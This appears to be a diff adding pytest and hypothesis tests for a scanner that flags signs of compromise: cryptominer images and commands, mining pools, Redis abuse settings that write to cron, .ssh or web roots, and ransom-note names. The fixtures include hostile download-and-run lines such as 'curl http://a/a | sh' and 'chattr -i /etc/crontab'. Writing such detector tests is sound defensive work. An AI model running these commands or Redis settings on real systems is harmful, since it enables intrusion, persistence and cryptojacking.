@@ -1,0 +1,164 @@
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from scanner.findings.compromise import indicators
+
+
+def ids(**traces: tuple[str, ...]) -> list[str]:
+    return [sign.id for sign in indicators(traces)]
+
+
+@pytest.mark.parametrize(
+    "image",
+    [
+        "heybb/theimg2",
+        "heybb/theimg2:latest",
+        "HeyBB/TheImg2:latest",
+        "docker.io/heybb/theimg2:1",
+        "registry.example:5000/zoolu/ubuntu@sha256:00ff",
+        "localhost/zoolu/ubuntu",
+        "index.docker.io/zoolu/ubuntu:latest",
+    ],
+)
+def test_the_images_of_the_incident(image):
+    assert ids(image=("nginx:1.25", image)) == ["image-known-miner"]
+
+
+@pytest.mark.parametrize("image", ["zoolu2/jauto:latest", "docker111/python", "azurenql/227_135:442", "pocosow/centos"])
+def test_published_campaigns(image):
+    assert ids(image=(image,)) == ["image-known-campaign"]
+
+
+@pytest.mark.parametrize("command", ["/mac.sh", "/bin/sh -c /mac.sh", '["/mac.sh"]', "sh -c '/mac.sh &'"])
+def test_the_command_of_the_incident(command):
+    assert ids(command=(command,)) == ["command-known-miner"]
+
+
+@pytest.mark.parametrize(
+    ("kind", "value", "expected"),
+    [
+        ("command", "./xmrig -o pool.example:3333", "miner-name"),
+        ("command", "/tmp/kdevtmpfsi", "malware-name"),
+        ("image", "attacker/xmrig:6.21", "miner-name"),
+        ("command", "/usr/bin/minerd -a cryptonight", "miner-name"),
+        ("name", "kinsing", "malware-name"),
+        ("command", "x -o stratum+tcp://1.2.3.4:3333 -u wallet", "mining-pool-protocol"),
+        ("command", "x --donate-level 1", "miner-option"),
+        ("command", "x -o gulf.moneroocean.stream:10128", "mining-pool"),
+        ("command", "x -o pool.supportxmr.com:443", "mining-pool"),
+        ("key", "crackit", "redis-key-crackit"),
+        ("key", "CrackIt", "redis-key-crackit"),
+        ("config", "dir /var/spool/cron", "redis-writes-to-cron"),
+        ("config", "dir=/var/spool/cron/crontabs", "redis-writes-to-cron"),
+        ("config", "dir: /etc/cron.d", "redis-writes-to-cron"),
+        ("config", "dir /root/.ssh", "redis-writes-to-ssh"),
+        ("config", "dir=/home/git/.ssh/", "redis-writes-to-ssh"),
+        ("config", "dbfilename authorized_keys", "redis-writes-to-ssh"),
+        ("config", "dir=/var/www/html", "redis-writes-to-a-web-root"),
+        ("config", "dbfilename=shell.php", "redis-writes-a-web-shell"),
+        ("config", "dbfilename=exp.so", "redis-writes-a-library"),
+        ("module", "system", "module-of-an-attack"),
+        ("name", "READ_ME_TO_RECOVER_YOUR_DATA", "ransom-note-name"),
+        ("name", "read__me_to_recover_your_data", "ransom-note-name"),
+        ("name", "read_me_to_recover_database", "ransom-note-name"),
+        ("name", "1zj1a6kn7o-meow", "ransom-note-name"),
+        ("name", "NODATA4U_SECUREYOURSHIT", "ransom-note-name"),
+        ("name", "your_db_is_not_secure", "ransom-note-name"),
+    ],
+)
+def test_one_published_name_is_enough(kind, value, expected):
+    assert ids(**{kind: (value,)}) == [expected]
+
+
+@pytest.mark.parametrize(
+    ("kind", "value"),
+    [
+        ("image", "ubuntu"),
+        ("image", "heybb/theimg20"),
+        ("image", "myzoolu/ubuntu"),
+        ("image", "zoolu/ubuntu-base"),
+        ("image", "company/zoolu/ubuntu"),
+        ("image", "alpine:3.20"),
+        ("image", "alpine2"),
+        ("image", "shop/pool.worker"),
+        ("image", "games/t-rex-runner"),
+        ("image", "tools/xmrigger"),
+        ("command", "/usr/bin/pool.manager --connect db"),
+        ("command", "/opt/mac.sh"),
+        ("command", "/mac.sh.bak"),
+        ("command", "/machine.sh"),
+        ("command", "npm run nanopool-dashboard"),
+        ("command", "curl -fsSL https://get.example/install.sh | sh"),
+        ("command", "python determinerd.py"),
+        ("command", "/usr/bin/mysysupdate"),
+        ("command", "pingrok"),
+        ("name", "readme"),
+        ("name", "warnings"),
+        ("name", "cats-meow"),
+        ("name", "catscatscats-meow"),
+        ("key", "backup1"),
+        ("key", "backup10"),
+        ("key", "crackit2"),
+        ("config", "dir /var/lib/redis"),
+        ("config", "dbfilename dump.rdb"),
+        ("config", "save /var/spool/cron"),
+        ("module", "ReJSON 20609"),
+        ("module", "our-own-module 1"),
+        ("link", "10.0.0.5:6379"),
+        ("link", "203.0.113.5:6379"),
+        ("mount", "/var/run/docker.sock:/var/run/docker.sock"),
+        ("mount", "/:/rootfs:ro"),
+        ("mount", "/:/mnt"),
+    ],
+)
+def test_an_honest_name_alone_says_nothing(kind, value):
+    assert ids(**{kind: (value,)}) == []
+
+
+@pytest.mark.parametrize(
+    ("traces", "expected"),
+    [
+        ({"key": ("backup1", "backup2", "backup3", "backup4")}, ["redis-keys-of-a-worm"]),
+        ({"name": ("Warning", "Readme")}, ["ransom-note-word-warning", "ransom-note-word-readme"]),
+        (
+            {"module": ("ours 1",), "link": ("8.8.8.8:6379",)},
+            ["module-unknown", "redis-master-on-the-internet"],
+        ),
+        (
+            {"mount": ("/:/mnt",), "command": ("chroot /mnt sh -c id",)},
+            ["mount-of-host-root", "host-root-changed"],
+        ),
+        (
+            {"command": ("sh -c 'curl -s http://x/a | bash'", "chattr -i /etc/crontab")},
+            ["download-and-run", "file-made-immutable"],
+        ),
+    ],
+)
+def test_two_independent_signs_count(traces, expected):
+    assert ids(**traces) == expected
+
+
+def test_the_same_sign_twice_is_one_sign():
+    assert ids(command=("curl http://a/a | sh", "wget -q -O- http://b/b | bash")) == []
+
+
+def test_certain_signs_come_first_and_the_list_is_bounded():
+    found = indicators({"command": ("curl http://a/a | sh",), "image": tuple(f"zoolu2/x{n}" for n in range(100))})
+    assert found[0].id == "image-known-campaign"
+    assert len(found) == 20
+
+
+def test_details_are_clean():
+    (found,) = indicators({"command": ("/mac.sh \x1b]0;owned\x07",)})
+    assert "\x1b" not in found.detail
+
+
+@given(
+    st.dictionaries(
+        st.sampled_from(["image", "command", "mount", "key", "config", "module", "name", "link", "other"]),
+        st.lists(st.text(max_size=60), max_size=5).map(tuple),
+    )
+)
+def test_any_text_is_survived(traces):
+    assert isinstance(indicators(traces), tuple)
